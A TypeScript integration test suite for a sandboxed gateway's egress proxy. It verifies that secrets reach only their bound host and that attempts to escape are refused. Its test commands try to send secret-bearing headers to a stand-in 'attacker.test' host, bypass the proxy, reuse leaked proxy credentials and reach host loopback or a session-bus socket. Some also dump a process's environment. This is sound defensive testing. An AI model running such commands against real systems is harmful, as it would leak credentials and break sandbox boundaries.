/*
 * The egress proxy on the gateway's real runs: gateway.exec (sync, PTY, background) in the real
 * bubblewrap sandbox, the runs sharing the gateway's loopback-only network namespace, curl going
 * out through the gateway's listener in the shared namespace and its proxy to real servers on
 * 127.0.0.1 (names mapped by the proxy's test-only resolver).
 */
import { readFileSync, writeFileSync, existsSync, statSync } from 'node:fs';
import { join } from 'node:path';
import { setTimeout as delay } from 'node:timers/promises';
import { createGateway, type Gateway } from '../../src/gateway';
import { checkPlatform } from '../../src/sandbox/detect';
import { baseEnv, makeTempDir } from '../helpers/tmp';
import { makeNames, publicCa, startService, type TestService } from './helpers';

const VALUE = 'ghp_R3alT0kenValue9xYzQ8wVu7tSr6qPo5nM4';
const VALUE2 = 'ghp_0therT0kenValue1aBcD2eFgH3iJkL4mNo';
const sandboxable = checkPlatform(undefined).ok;
const maybe = sandboxable ? describe : describe.skip;

let tmp: ReturnType<typeof makeTempDir>;
let allowed: TestService;
let attacker: TestService;
let names: ReturnType<typeof makeNames>;

beforeAll(async () => {
  tmp = makeTempDir('execgate-egress-runs-');
  allowed = await startService('allowed');
  attacker = await startService('attacker');
  names = makeNames({ 'allowed.test': allowed, 'attacker.test': attacker });
});

afterAll(async () => {
  await allowed.close();
  await attacker.close();
  tmp.cleanup();
});

beforeEach(() => {
  for (const service of [allowed, attacker]) {
    service.seen.length = 0;
    service.connections = 0;
  }
});

function makeGateway(name: string, network: string): { gateway: Gateway; dir: string; home: string } {
  const dir = join(tmp.dir, name);
  const home = join(dir, 'home');
  require('node:fs').mkdirSync(dir, { recursive: true });
  const policy = join(dir, 'policy.yaml');
  writeFileSync(policy, [
    'version: 1',
    `sandbox: { mode: required, network: ${network} }`,
    'secrets:',
    '  bind:',
    '    - { ref: "secret:gh", hosts: [allowed.test], delivery: inject, headers: [Authorization, X, X-A] }',
    '    - { ref: "secret:gh2", hosts: [allowed.test], delivery: inject, headers: [Authorization, X-B] }',
  ].join('\n'));
  const gateway = createGateway({
    home, env: baseEnv(), cwd: dir, policyFile: policy,
    sources: [{ name: 'test', kinds: ['secret'], lookup: (_kind, id) => (id === 'gh' ? { found: true, value: VALUE } : id === 'gh2' ? { found: true, value: VALUE2 } : { found: false }) }],
    egress: { ...names, upstreamCa: [publicCa.certPem], runtimeDir: dir },
  });
  return { gateway, dir, home };
}

/** The environment a command saw, as it wrote it to a file (not through the redacted output). */
function environOf(path: string): Map<string, string> {
  return new Map(readFileSync(path, 'utf8').split('\0').filter(Boolean).map((entry) => {
    const at = entry.indexOf('=');
    return [entry.slice(0, at), entry.slice(at + 1)] as [string, string];
  }));
}

function refVariable(env: Map<string, string>): string {
  const names = [...env.keys()].filter((n) => n.startsWith('EXECGATE_REF_'));
  expect(names).toHaveLength(1);
  return env.get(names[0]!)!;
}

// A file the command writes is complete once it holds a line or a value: the shell creates it before it writes.
async function waitForFile(path: string): Promise<void> {
  const written = (): boolean => existsSync(path) && statSync(path).size > 0;
  for (let i = 0; i < 300 && !written(); i++) await delay(50);
  expect(written()).toBe(true);
}

maybe('allowlist: gateway runs reach the bound host through the proxy, with the value injected', () => {
  let gateway: Gateway;
  let dir: string;
  let home: string;
  beforeAll(() => ({ gateway, dir, home } = makeGateway('allowlist', '{ mode: allowlist, allow: [allowed.test] }')));
  afterAll(async () => { await gateway.close(); });

  test('sync: curl over HTTPS delivers the real value; the command\'s environ holds only the sentinel', async () => {
    const result = await gateway.exec({
      command: 'cat /proc/self/environ > environ.bin; curl -sS --max-time 20 -H "Authorization: Bearer <<secret:gh>>" https://allowed.test/sync',
      cwd: dir,
    });
    expect(result.exitCode).toBe(0);
    expect(allowed.seen.map((s) => [s.url, s.headers.authorization])).toEqual([['/sync', `Bearer ${VALUE}`]]);
    const env = environOf(join(dir, 'environ.bin'));
    const sentinel = refVariable(env);
    expect(sentinel).not.toBe(VALUE);
    expect(sentinel).toHaveLength(VALUE.length);
    expect(readFileSync(join(dir, 'environ.bin'), 'latin1')).not.toContain(VALUE);
    expect(env.get('HTTPS_PROXY')).toMatch(/^http:\/\/run-[^:@]+:[^@]+@127\.0\.0\.1:\d+$/);
    // The service echoed the header: the proxy redacted it before the command could read it.
    expect(result.stdout).toContain('"service":"allowed"');
    expect(result.stdout).not.toContain(VALUE);
    // The decisions are in the audit log under the run.
    const records = readFileSync(join(home, 'audit.log'), 'utf8').trim().split('\n').map((l) => JSON.parse(l) as Record<string, unknown>);
    const egress = records.filter((r) => r.event === 'egress.decision' && r.runId === result.id);
    expect(egress.some((r) => r.host === 'allowed.test' && r.allowed === true && JSON.stringify(r.injected) === '["secret:gh"]')).toBe(true);
    expect(readFileSync(join(home, 'audit.log'), 'utf8')).not.toContain(VALUE);
  });

  test('sync: the attacker host, not on the allowlist, receives no connection at all', async () => {
    const result = await gateway.exec({
      command: 'curl -sS --max-time 20 -H "X: <<secret:gh>>" https://attacker.test/ ; curl -sS --max-time 20 --proxy "$ALL_PROXY" http://attacker.test/ ; curl -sS --max-time 5 --noproxy "*" https://attacker.test/ ; echo done',
      cwd: dir,
    });
    expect(result.stdout).toContain('done');
    expect(attacker.connections).toBe(0);
    expect(allowed.connections).toBe(0);
  });

  test('pty: the same through a terminal', async () => {
    const result = await gateway.exec({ command: 'curl -sS --max-time 20 -H "Authorization: Bearer <<secret:gh>>" https://allowed.test/pty', cwd: dir, mode: 'pty' });
    expect(result.exitCode).toBe(0);
    expect(allowed.seen.map((s) => [s.url, s.headers.authorization])).toEqual([['/pty', `Bearer ${VALUE}`]]);
    expect(result.stdout).not.toContain(VALUE);
  });

  test('background: the same from a background run, and its endpoint closes when it ends', async () => {
    const started = await gateway.exec({
      command: 'cat /proc/self/environ > bg-environ.bin; curl -sS --max-time 20 -H "Authorization: Bearer <<secret:gh>>" https://allowed.test/bg; echo "${HTTP_PROXY}" > bg-proxy.txt',
      cwd: dir,
      mode: 'background',
    });
    const ended = await gateway.background.wait(started.id, 30_000);
    expect(ended.exitCode).toBe(0);
    expect(allowed.seen.map((s) => [s.url, s.headers.authorization])).toEqual([['/bg', `Bearer ${VALUE}`]]);
    expect(readFileSync(join(dir, 'bg-environ.bin'), 'latin1')).not.toContain(VALUE);
    // The run has ended: its credentials lead nowhere now (the proxy forgot them), through the
    // gateway's listener, which another run still reaches, by every protocol.
    const proxyUrl = readFileSync(join(dir, 'bg-proxy.txt'), 'utf8').trim();
    const late = await gateway.exec({
      command: [
        `curl -sS -o /dev/null -w "http=%{http_code}\\n" --max-time 10 --proxy '${proxyUrl}' http://allowed.test/late`,
        `curl -sS -o /dev/null -w "connect=%{http_connect}\\n" --max-time 10 --proxy '${proxyUrl}' https://allowed.test/late-tls`,
        `curl -sS -o /dev/null --max-time 10 --proxy '${proxyUrl.replace('http://', 'socks5h://')}' http://allowed.test/late-socks; echo "socks=$?"`,
      ].join('\n'),
      cwd: dir,
    });
    expect(late.stdout).toContain('http=407');
    expect(late.stdout).toContain('connect=407');
    expect(late.stdout).toMatch(/socks=[1-9]/);
    expect(allowed.seen.map((s) => s.url)).toEqual(['/bg']);
  });

  test('one listener serves the gateway\'s runs; credentials decide the run: none, or a known username with another password, are refused', async () => {
    const a = await gateway.exec({
      command: 'echo "${HTTP_PROXY##*:}" > a-port; echo "${HTTP_PROXY#http://}" | cut -d: -f1 > a-user; printf %s <<secret:gh>> > a-sentinel; for i in $(seq 1200); do [ -e a-release ] && break; sleep 0.05; done',
      cwd: dir,
      mode: 'background',
    });
    try {
      await waitForFile(join(dir, 'a-sentinel'));
      await waitForFile(join(dir, 'a-user'));
      const b = await gateway.exec({
        command: [
          'port=$(cat a-port); user=$(cat a-user); s=$(cat a-sentinel); echo "same-port=$([ "$port" = "${HTTP_PROXY##*:}" ] && echo yes)"',
          'mine="${HTTP_PROXY#http://}"; mine="${mine%%@*}"; pass="${mine#*:}"',
          // No credentials: plain HTTP, CONNECT, SOCKS5.
          'curl -sS -o /dev/null -w "none=%{http_code}\\n" --max-time 10 --proxy "http://127.0.0.1:$port" -H "Authorization: Bearer $s" http://allowed.test/b1',
          'curl -sS -o /dev/null -w "none-connect=%{http_connect}\\n" --max-time 10 --proxy "http://127.0.0.1:$port" https://allowed.test/b2',
          'curl -sS -o /dev/null --max-time 10 --proxy "socks5h://127.0.0.1:$port" http://allowed.test/b3; echo "none-socks=$?"',
          // A\'s username (say it leaked) with B\'s password: every protocol.
          'curl -sS -o /dev/null -w "borrowed=%{http_code}\\n" --max-time 10 --proxy "http://$user:$pass@127.0.0.1:$port" -H "Authorization: Bearer $s" http://allowed.test/b4',
          'curl -sS -o /dev/null -w "borrowed-connect=%{http_connect}\\n" --max-time 10 --proxy "http://$user:$pass@127.0.0.1:$port" -H "Authorization: Bearer $s" https://allowed.test/b5',
          'curl -sS -o /dev/null --max-time 10 --proxy "socks5h://$user:$pass@127.0.0.1:$port" -H "Authorization: Bearer $s" http://allowed.test/b6; echo "borrowed-socks=$?"',
          // With B\'s own credentials A\'s sentinel is just text: B has no injection for it.
          'curl -sS -o /dev/null -w "self=%{http_code}\\n" --max-time 10 -H "Authorization: Bearer $s" http://allowed.test/b7',
        ].join('\n'),
        cwd: dir,
      });
      expect(b.stdout).toContain('same-port=yes');
      expect(b.stdout).toContain('none=407');
      expect(b.stdout).toContain('none-connect=407');
      expect(b.stdout).toMatch(/none-socks=[1-9]/);
      expect(b.stdout).toContain('borrowed=407');
      expect(b.stdout).toContain('borrowed-connect=407');
      expect(b.stdout).toMatch(/borrowed-socks=[1-9]/);
      expect(b.stdout).toContain('self=200');
      const sentinel = readFileSync(join(dir, 'a-sentinel'), 'utf8');
      expect(sentinel).toHaveLength(VALUE.length);
      expect(allowed.seen.map((s) => [s.url, s.headers.authorization])).toEqual([['/b7', `Bearer ${sentinel}`]]);
    } finally {
      writeFileSync(join(dir, 'a-release'), '');
      await gateway.background.wait(a.id, 30_000);
    }
  });

  test('two runs at once with different bound secrets: each request gets its own run\'s value, never the other\'s', async () => {
    // A background run and a sync run overlap (each waits for the other\'s marker), both through the one bridge.
    // Each marker appears whole (written aside, then renamed): the other run reads it as soon as it exists.
    const a = await gateway.exec({
      command: 'printf %s <<secret:gh>> > two-a.tmp; mv two-a.tmp two-a; for i in $(seq 400); do [ -e two-b ] && break; sleep 0.05; done; curl -sS -o /dev/null -w "a=%{http_code}\\n" --max-time 20 -H "X-A: <<secret:gh>>" -H "X-Other: $(cat two-b)" https://allowed.test/two-a',
      cwd: dir,
      mode: 'background',
    });
    const b = await gateway.exec({
      command: 'printf %s <<secret:gh2>> > two-b.tmp; mv two-b.tmp two-b; for i in $(seq 400); do [ -e two-a ] && break; sleep 0.05; done; curl -sS -o /dev/null -w "b=%{http_code}\\n" --max-time 20 -H "X-B: <<secret:gh2>>" -H "X-Other: $(cat two-a)" https://allowed.test/two-b',
      cwd: dir,
    });
    const ended = await gateway.background.wait(a.id, 30_000);
    expect(ended.exitCode).toBe(0);
    expect(b.stdout).toBe('b=200\n');
    const sentinelA = readFileSync(join(dir, 'two-a'), 'utf8');
    const sentinelB = readFileSync(join(dir, 'two-b'), 'utf8');
    const seen = new Map(allowed.seen.map((s) => [s.url, s.headers]));
    expect([...seen.keys()].sort()).toEqual(['/two-a', '/two-b']);
    expect(seen.get('/two-a')!['x-a']).toBe(VALUE);
    expect(seen.get('/two-a')!['x-other']).toBe(sentinelB);
    expect(seen.get('/two-b')!['x-b']).toBe(VALUE2);
    expect(seen.get('/two-b')!['x-other']).toBe(sentinelA);
    expect([sentinelA, sentinelB]).not.toContain(VALUE);
    expect([sentinelA, sentinelB]).not.toContain(VALUE2);
  });
});

maybe('network open (the default): every public host through the proxy, nothing of the host', () => {
  let gateway: Gateway;
  let dir: string;
  let bus: import('node:net').Server;
  const busName = `execgate-test-bus-${process.pid}`;
  let busConnections = 0;
  beforeAll(async () => {
    ({ gateway, dir } = makeGateway('open', 'open'));
    bus = require('node:net').createServer((socket: import('node:net').Socket) => { busConnections += 1; socket.end('BUS-ANSWERED\n'); });
    await new Promise<void>((resolve) => bus.listen(`\0${busName}`, resolve));
  });
  afterAll(async () => {
    await gateway.close();
    await new Promise((resolve) => bus.close(resolve));
  });

  test('an unbound host is reached, but not with the sentinel (refused with the reason); the bound host gets the value', async () => {
    const result = await gateway.exec({
      command: 'curl -sS -o /dev/null --max-time 20 http://attacker.test/plain; curl -sS -o /dev/null --max-time 20 -H "X: <<secret:gh>>" http://attacker.test/a; curl -sS -o /dev/null --max-time 20 -H "X: <<secret:gh>>" https://allowed.test/b; echo done',
      cwd: dir,
    });
    expect(result.output).toBe('done\n');
    expect(allowed.seen.map((s) => s.headers.x)).toEqual([VALUE]);
    expect(attacker.seen.map((s) => [s.url, s.headers.x])).toEqual([['/plain', undefined]]);
    expect(result.egress.filter((d) => !d.allowed)).toEqual([
      expect.objectContaining({ host: 'attacker.test', port: 80, rule: 'sentinel-unbound:secret:gh', reason: '<<secret:gh>> is bound to allowed.test, not attacker.test:80' }),
    ]);
  });

  test('a background run carries its egress decisions too: allowed and refused, with the reason', async () => {
    const started = await gateway.exec({
      mode: 'background',
      command: 'curl -sS -o /dev/null --max-time 20 https://allowed.test/bg; curl -sS -o /dev/null --max-time 20 -H "X: <<secret:gh>>" http://attacker.test/bg; echo done',
      cwd: dir,
    });
    const ended = await gateway.background.wait(started.id, 60_000);
    expect(ended.state).toBe('exited');
    expect(ended.egress).toEqual([
      expect.objectContaining({ host: 'allowed.test', port: 443, via: 'connect', allowed: true }),
      expect.objectContaining({ host: 'allowed.test', port: 443, via: 'https-intercepted', allowed: true, status: 200 }),
      expect.objectContaining({ host: 'attacker.test', port: 80, allowed: false, reason: '<<secret:gh>> is bound to allowed.test, not attacker.test:80' }),
    ]);
    expect(gateway.background.status(started.id).egress).toEqual(ended.egress);
    expect(JSON.stringify(ended)).not.toContain(VALUE);
  });

  test('the host loopback, rebinding names and an abstract socket (a session bus) stay out of reach', async () => {
    const probe = `import socket\ns = socket.socket(socket.AF_UNIX)\ntry:\n  s.connect("\\0${busName}"); print(s.recv(64))\nexcept Exception as e: print("refused", e)`;
    const result = await gateway.exec({
      command: `curl -sS --max-time 5 --noproxy "*" http://127.0.0.1:${allowed.httpPort}/ ; echo "direct=$?"; env -u NO_PROXY -u no_proxy curl -sS -o /dev/null -w "proxied=%{http_code}\\n" --max-time 10 http://127.0.0.1:${allowed.httpPort}/; curl -sS -o /dev/null -w "rebind=%{http_code}\\n" --max-time 10 http://rebind.test/; python3 -c '${probe}'`,
      cwd: dir,
    });
    expect(result.stdout).toMatch(/direct=[1-9]/);
    expect(result.stdout).toContain('proxied=403');
    expect(result.stdout).toContain('rebind=403');
    expect(result.stdout).toContain('refused');
    expect(result.stdout).not.toContain('BUS-ANSWERED');
    expect(busConnections).toBe(0);
    expect(allowed.connections).toBe(0);
  });
});

maybe('network none: nothing leaves a gateway run', () => {
  let gateway: Gateway;
  let dir: string;
  beforeAll(() => ({ gateway, dir } = makeGateway('none', 'none')));
  afterAll(async () => { await gateway.close(); });

  test('no proxy variables, no route out, the host loopback services out of reach', async () => {
    const result = await gateway.exec({
      command: `env | grep -ci _proxy; curl -sS --max-time 5 https://allowed.test/ ; echo "name=$?"; curl -sS --max-time 5 http://127.0.0.1:${allowed.httpPort}/ ; echo "direct=$?"`,
      cwd: dir,
    });
    expect(result.stdout).toMatch(/^0\n/);
    expect(result.stdout).toMatch(/name=[1-9]/);
    expect(result.stdout).toMatch(/direct=[1-9]/);
    expect(allowed.connections).toBe(0);
  });

  test('a bound secret is refused before resolution (its host is unreachable)', async () => {
    await expect(gateway.exec({ command: 'curl -H "X: <<secret:gh>>" https://allowed.test/', cwd: dir })).rejects.toMatchObject({ code: 'EXECGATE_ERR_EGRESS_UNREACHABLE' });
  });
});
